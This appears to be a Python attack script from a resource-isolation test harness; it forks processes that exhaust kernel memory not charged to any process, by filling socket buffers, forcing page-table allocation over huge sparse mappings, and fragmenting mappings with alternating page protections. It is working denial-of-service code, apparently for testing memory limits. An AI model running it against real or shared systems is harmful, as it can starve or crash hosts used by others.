"""Takes memory that is the kernel's and not in the books of any process: buffers, page tables, mappings."""

import contextlib
import ctypes
import mmap
import os
import signal
import socket
import sys
from typing import Any

from attacker import run

KIND, PROCESSES = sys.argv[1], int(sys.argv[2])
READ, PRIVATE_UNSHARED_UNRESERVED = 1, 0x4022
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, *(ctypes.c_int,) * 3, ctypes.c_long)
_libc.mprotect.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
_libc.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
kept: list[Any] = []


def fill(sock: socket.socket) -> None:
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
    sock.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while True:
            sock.send(bytes(32768))


def pairs() -> None:
    while True:
        pair = socket.socketpair()
        kept.append(pair)
        for end in pair:
            fill(end)


def network() -> None:
    server = socket.create_server(("127.0.0.1", 0))
    while True:
        one = socket.create_connection(server.getsockname())
        other, _ = server.accept()
        kept.extend((one, other))
        for _ in range(40):  # whoever reads fast gets large buffers
            one.sendall(bytes(65536))
            while len(other.recv(65536, socket.MSG_PEEK)) and other.recv(2**20, socket.MSG_DONTWAIT):
                break
        fill(one)
        fill(other)


def tables() -> None:
    """A page that is read in every two megabytes."""
    while True:
        start = _libc.mmap(None, 2**38, READ, PRIVATE_UNSHARED_UNRESERVED, -1, 0)
        _libc.madvise(start, 2**38, 15)  # no huge pages
        for place in range(start, start + 2**38, 2**21):
            ctypes.c_char.from_address(place).value  # noqa: B018


def mappings() -> None:
    """Every second page has other rights than its neighbours."""
    kept.append(mmap.mmap(-1, 2**30))
    start = ctypes.addressof(ctypes.c_char.from_buffer(kept[-1]))
    for place in range(start, start + 2**30, 2 * mmap.PAGESIZE):
        _libc.mprotect(place, mmap.PAGESIZE, READ)


def attack() -> dict[str, Any]:
    take = {"pairs": pairs, "network": network, "tables": tables, "mappings": mappings}[KIND]
    for _ in range(PROCESSES - 1):
        if not os.fork():
            with contextlib.suppress(OSError):
                take()
            while True:
                signal.pause()
    with contextlib.suppress(OSError):
        take()
    while True:
        signal.pause()


run(attack)
